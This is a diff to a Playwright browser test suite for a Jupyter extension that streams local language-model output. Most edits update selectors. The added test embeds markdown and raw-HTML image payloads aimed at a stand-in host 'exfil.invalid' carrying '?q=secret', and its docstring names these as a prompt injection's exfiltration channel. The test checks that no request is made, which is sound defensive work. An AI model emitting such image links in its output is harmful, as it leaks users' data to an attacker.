@@ -6,7 +6,10 @@ manager, so nothing reaches the network) on a free port with a random token,
 writes a three-cell notebook into a temporary root and checks, in the page:
 
 * ``%%rocm_generate`` streams: the output grows, with its "▌" cursor, before
-  the generation ends, then turns into Markdown with a "tok/s" footer;
+  the generation ends, then turns into Markdown (rendered to HTML by
+  rocm_nb) with a "tok/s" footer;
+* model output with an image shows its URL as text and the browser
+  requests nothing from the image's host;
 * ``%rocm_chat``: Enter and the Send button post messages, and the replies
   and their statistics appear;
 * Stop ends a long reply: the statistics say "stopped" and Send is enabled
@@ -40,7 +43,7 @@ from pathlib import Path
 
 import psutil
 import pytest
-from playwright.sync_api import Locator, Page, expect, sync_playwright
+from playwright.sync_api import Locator, Page, Request, expect, sync_playwright
 
 ROOT = Path(__file__).resolve().parents[1]
 ARTIFACTS = ROOT / "test-artifacts" / "browser"
@@ -293,11 +296,11 @@ def shoot(page: Page, name: str) -> None:
 def test_generate_streams_into_the_page_then_renders_markdown(page: Page) -> None:
     target = run(page, GENERATE)
     # Sample the output while it streams: each sample must be longer than the last, still
-    # carry the cursor, and come before the final Markdown (whose footer has "tok/s").
+    # carry the cursor, and come before the final Markdown, rendered to HTML (whose footer has "tok/s").
     growing = """([i, previous]) => {
         const out = document.querySelectorAll('.jp-Notebook .jp-Cell')[i].querySelector('.jp-OutputArea');
         const text = out.innerText;
-        if (out.querySelector('.jp-RenderedMarkdown')) return {done: true, length: text.length};
+        if (out.querySelector('.jp-RenderedHTML')) return {done: true, length: text.length};
         return text.includes('▌') && text.length > previous ? {done: false, length: text.length} : null;
     }"""
     lengths = [0]
@@ -308,7 +311,7 @@ def test_generate_streams_into_the_page_then_renders_markdown(page: Page) -> Non
     shoot(page, "01-streaming.png")
     assert lengths == sorted(set(lengths)), lengths
 
-    footer = target.locator(".jp-RenderedMarkdown sub")
+    footer = target.locator(".jp-RenderedHTML sub")
     expect(footer).to_contain_text("tok/s")
     final = output_text(page, GENERATE)
     assert "▌" not in final
@@ -413,6 +416,35 @@ def add_cell(page: Page, source: str) -> int:
     return count
 
 
+EXFILTRATE = (
+    "from rocm_nb.display import StreamDisplay\n"
+    "shown = StreamDisplay()\n"
+    "shown.append('Done. ![x](http://exfil.invalid/?q=secret) ![y][r] <img src=\"http://exfil.invalid/raw\">"
+    "\\n\\n[r]: http://exfil.invalid/ref')\n"
+    "shown.finish('3 tokens')"
+)
+
+
+def test_an_image_in_model_output_is_shown_as_text_and_fetched_from_nowhere(page: Page) -> None:
+    """A prompt injection's exfiltration channel: ![x](http://evil/?q=secret) must not make a request."""
+    requested: list[str] = []
+
+    def record(request: Request) -> None:
+        requested.append(request.url)
+
+    page.on("request", record)
+    try:
+        target = run(page, add_cell(page, EXFILTRATE))
+        expect(target.locator(".jp-RenderedHTML sub")).to_contain_text("3 tokens")
+        output = target.locator(".jp-OutputArea")
+        expect(output).to_contain_text("[image: x](http://exfil.invalid/?q=secret)")
+        expect(output).to_contain_text('<img src="http://exfil.invalid/raw">')
+        expect(output.locator("img")).to_have_count(0)
+    finally:
+        page.remove_listener("request", record)
+    assert not [url for url in requested if "exfil.invalid" in url], requested
+
+
 def samples(monitor: Locator) -> int:
     return int(monitor.get_attribute("data-samples") or 0)
 
@@ -445,7 +477,7 @@ def test_gpu_monitor_updates_while_generating_and_stops_when_out_of_sight(page: 
             const cells = document.querySelectorAll('.jp-Notebook .jp-Cell');
             const monitor = cells[status].querySelector('.rocm-nb-monitor');
             const out = cells[generate].querySelector('.jp-OutputArea');
-            if (out.querySelector('.jp-RenderedMarkdown')) return {done: true, samples: +monitor.dataset.samples};
+            if (out.querySelector('.jp-RenderedHTML')) return {done: true, samples: +monitor.dataset.samples};
             const generating = monitor.innerText.includes('generating: every 1 s');
             return generating && +monitor.dataset.samples >= before + 3 ? {done: false} : null;
         }""",
